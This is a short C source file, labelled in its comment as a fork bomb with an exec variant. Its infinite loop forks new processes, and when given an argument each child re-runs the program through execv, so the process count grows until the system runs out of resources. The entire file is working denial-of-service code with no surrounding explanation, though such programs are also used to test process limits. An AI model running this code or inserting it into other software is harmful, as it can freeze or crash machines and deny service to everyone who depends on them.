// fork_bomb [exec]: with an argument every process also becomes itself anew.
#include <unistd.h>
int main(int argc, char** argv) {
  for (;;)
    if (fork() == 0 && argc > 1) execv(argv[0], argv);
}
